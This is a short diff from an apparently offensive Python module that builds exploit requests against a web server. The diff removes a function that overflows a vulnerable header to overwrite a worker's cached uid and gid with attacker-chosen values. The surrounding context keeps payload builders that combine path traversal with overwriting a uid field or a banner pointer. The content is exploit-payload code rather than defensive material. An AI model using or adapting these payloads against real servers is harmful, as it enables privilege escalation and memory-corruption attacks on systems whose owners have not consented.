@@ -86,14 +86,6 @@ def uid_overwrite_payload(
     return format_request(path or traversal_path(), headers=headers)
 
 
-def uid_and_gid_overwrite_payload(uid: int = 0, gid: int = 0, *, path: str | None = None) -> bytes:
-    """Overwrite both the cached worker uid and gid with attacker values."""
-    spec = OverflowSpec(fields=(uid, gid))
-    return format_request(
-        path or traversal_path(), headers={VULNERABLE_HEADER: spec.header_value()}
-    )
-
-
 def banner_pointer_payload(address: int, *, path: str = "/index.html") -> bytes:
     """Overwrite the banner pointer with an absolute *address*.
 
